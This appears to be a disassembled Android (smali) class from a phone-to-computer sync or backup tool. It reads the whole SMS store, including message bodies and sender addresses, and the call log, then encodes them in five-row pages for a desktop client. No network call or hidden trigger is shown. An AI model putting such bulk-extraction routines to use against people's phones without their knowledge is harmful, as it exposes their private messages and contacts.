.class public final Lcom/velmora/tarvell/Stores;
.super Ljava/lang/Object;
.source "Stores.smali"

# Reads the phone's providers into the tagged record text: pages of five
# records (the step the computer side advances by), each record's entries
# "TAG:HEX;" followed by ".".

.field public static final PAGE:I = 0x5

# The cursor of the table being paged, kept from one page to the next so
# that each page moves five rows instead of querying the whole table again
# and stepping to its offset. Any other command forgets it.
.field private static cachedUri:Ljava/lang/String;
.field private static cached:Landroid/database/Cursor;

.method private constructor <init>()V
    .locals 0
    invoke-direct {p0}, Ljava/lang/Object;-><init>()V
    return-void
.end method

# Rows of a provider table; 0 when the provider refuses (no permission).
.method public static count(Landroid/content/ContentResolver;Ljava/lang/String;)I
    .locals 7
    invoke-static {p1}, Landroid/net/Uri;->parse(Ljava/lang/String;)Landroid/net/Uri;
    move-result-object v1
    const/4 v0, 0x1
    new-array v2, v0, [Ljava/lang/String;
    const-string v0, "_id"
    const/4 v3, 0x0
    aput-object v0, v2, v3
    const/4 v3, 0x0
    const/4 v4, 0x0
    const/4 v5, 0x0
    move-object v0, p0
    invoke-virtual/range {v0 .. v5}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;
    move-result-object v0
    if-nez v0, :got
    const/4 v0, 0x0
    return v0
    :got
    invoke-interface {v0}, Landroid/database/Cursor;->getCount()I
    move-result v6
    invoke-interface {v0}, Landroid/database/Cursor;->close()V
    return v6
.end method

.method public static forget()V
    .locals 2
    sget-object v0, Lcom/velmora/tarvell/Stores;->cached:Landroid/database/Cursor;
    if-eqz v0, :done
    invoke-interface {v0}, Landroid/database/Cursor;->close()V
    :done
    const/4 v1, 0x0
    sput-object v1, Lcom/velmora/tarvell/Stores;->cached:Landroid/database/Cursor;
    sput-object v1, Lcom/velmora/tarvell/Stores;->cachedUri:Ljava/lang/String;
    return-void
.end method

# One page of a flat table: the columns in order, each under its tag; the
# column at dateColumn (or none when -1) holds milliseconds and is sent as
# local date text.
.method public static page(Landroid/content/ContentResolver;Ljava/lang/String;[Ljava/lang/String;[Ljava/lang/String;II)Ljava/lang/String;
    .locals 10
    # p0 resolver, p1 uri, p2 columns, p3 tags, p4 dateColumn, p5 offset
    new-instance v9, Ljava/lang/StringBuilder;
    invoke-direct {v9}, Ljava/lang/StringBuilder;-><init>()V
    if-ltz p5, :done
    sget-object v0, Lcom/velmora/tarvell/Stores;->cachedUri:Ljava/lang/String;
    invoke-virtual {p1, v0}, Ljava/lang/String;->equals(Ljava/lang/Object;)Z
    move-result v0
    if-eqz v0, :query
    sget-object v0, Lcom/velmora/tarvell/Stores;->cached:Landroid/database/Cursor;
    goto :position
    :query
    invoke-static {}, Lcom/velmora/tarvell/Stores;->forget()V
    invoke-static {p1}, Landroid/net/Uri;->parse(Ljava/lang/String;)Landroid/net/Uri;
    move-result-object v1
    move-object v0, p0
    move-object v2, p2
    const/4 v3, 0x0
    const/4 v4, 0x0
    const-string v5, "_id ASC"
    invoke-virtual/range {v0 .. v5}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;
    move-result-object v0
    if-eqz v0, :done
    sput-object v0, Lcom/velmora/tarvell/Stores;->cached:Landroid/database/Cursor;
    sput-object p1, Lcom/velmora/tarvell/Stores;->cachedUri:Ljava/lang/String;
    :position
    invoke-interface {v0, p5}, Landroid/database/Cursor;->moveToPosition(I)Z
    move-result v1
    const/4 v2, 0x0
    :record
    if-eqz v1, :closing
    const/4 v3, 0x5
    if-ge v2, v3, :closing
    const/4 v3, 0x0
    :column
    array-length v4, p2
    if-ge v3, v4, :end_record
    invoke-interface {v0, v3}, Landroid/database/Cursor;->isNull(I)Z
    move-result v4
    if-nez v4, :next_column
    invoke-interface {v0, v3}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;
    move-result-object v4
    if-ne v3, p4, :plain
    invoke-interface {v0, v3}, Landroid/database/Cursor;->getLong(I)J
    move-result-wide v5
    invoke-static {v5, v6}, Lcom/velmora/tarvell/Wire;->localDate(J)Ljava/lang/String;
    move-result-object v4
    :plain
    aget-object v7, p3, v3
    invoke-static {v9, v7, v4}, Lcom/velmora/tarvell/Wire;->entry(Ljava/lang/StringBuilder;Ljava/lang/String;Ljava/lang/String;)V
    :next_column
    add-int/lit8 v3, v3, 0x1
    goto :column
    :end_record
    const/16 v3, 0x2e
    invoke-virtual {v9, v3}, Ljava/lang/StringBuilder;->append(C)Ljava/lang/StringBuilder;
    add-int/lit8 v2, v2, 0x1
    invoke-interface {v0}, Landroid/database/Cursor;->moveToNext()Z
    move-result v1
    goto :record
    :closing
    :done
    invoke-virtual {v9}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
    move-result-object v0
    return-object v0
.end method

.method public static smsPage(Landroid/content/ContentResolver;I)Ljava/lang/String;
    .locals 7
    const/16 v0, 0xa
    new-array v2, v0, [Ljava/lang/String;
    new-array v3, v0, [Ljava/lang/String;
    const/4 v0, 0x0
    const-string v1, "_id"
    aput-object v1, v2, v0
    const-string v1, "ID"
    aput-object v1, v3, v0
    const/4 v0, 0x1
    const-string v1, "thread_id"
    aput-object v1, v2, v0
    const-string v1, "THREAD_ID"
    aput-object v1, v3, v0
    const/4 v0, 0x2
    const-string v1, "address"
    aput-object v1, v2, v0
    const-string v1, "ADDRESS"
    aput-object v1, v3, v0
    const/4 v0, 0x3
    const-string v1, "date"
    aput-object v1, v2, v0
    const-string v1, "DATE"
    aput-object v1, v3, v0
    const/4 v0, 0x4
    const-string v1, "protocol"
    aput-object v1, v2, v0
    const-string v1, "PROTOCOL"
    aput-object v1, v3, v0
    const/4 v0, 0x5
    const-string v1, "read"
    aput-object v1, v2, v0
    const-string v1, "READ"
    aput-object v1, v3, v0
    const/4 v0, 0x6
    const-string v1, "status"
    aput-object v1, v2, v0
    const-string v1, "STATUS"
    aput-object v1, v3, v0
    const/4 v0, 0x7
    const-string v1, "body"
    aput-object v1, v2, v0
    const-string v1, "BODY"
    aput-object v1, v3, v0
    const/16 v0, 0x8
    const-string v1, "type"
    aput-object v1, v2, v0
    const-string v1, "TYPE"
    aput-object v1, v3, v0
    const/16 v0, 0x9
    const-string v1, "person"
    aput-object v1, v2, v0
    const-string v1, "PERSON"
    aput-object v1, v3, v0
    move-object v0, p0
    const-string v1, "content://sms"
    const/4 v4, 0x3
    move v5, p1
    invoke-static/range {v0 .. v5}, Lcom/velmora/tarvell/Stores;->page(Landroid/content/ContentResolver;Ljava/lang/String;[Ljava/lang/String;[Ljava/lang/String;II)Ljava/lang/String;
    move-result-object v0
    return-object v0
.end method

.method public static callLogPage(Landroid/content/ContentResolver;I)Ljava/lang/String;
    .locals 7
    const/4 v0, 0x6
    new-array v2, v0, [Ljava/lang/String;
    new-array v3, v0, [Ljava/lang/String;
    const/4 v0, 0x0
    const-string v1, "_id"
    aput-object v1, v2, v0
    const-string v1, "ID"
    aput-object v1, v3, v0
    const/4 v0, 0x1
    const-string v1, "name"
    aput-object v1, v2, v0
    const-string v1, "NAME"
    aput-object v1, v3, v0
    const/4 v0, 0x2
    const-string v1, "number"
    aput-object v1, v2, v0
    const-string v1, "NUMBER"
    aput-object v1, v3, v0
    const/4 v0, 0x3
    const-string v1, "type"
    aput-object v1, v2, v0
    const-string v1, "TYPE"
    aput-object v1, v3, v0
    const/4 v0, 0x4
    const-string v1, "duration"
    aput-object v1, v2, v0
    const-string v1, "DURATION"
    aput-object v1, v3, v0
    const/4 v0, 0x5
    const-string v1, "date"
    aput-object v1, v2, v0
    const-string v1, "DATE"
    aput-object v1, v3, v0
    move-object v0, p0
    const-string v1, "content://call_log/calls"
    const/4 v4, 0x5
    move v5, p1
    invoke-static/range {v0 .. v5}, Lcom/velmora/tarvell/Stores;->page(Landroid/content/ContentResolver;Ljava/lang/String;[Ljava/lang/String;[Ljava/lang/String;II)Ljava/lang/String;
    move-result-object v0
    return-object v0
.end method
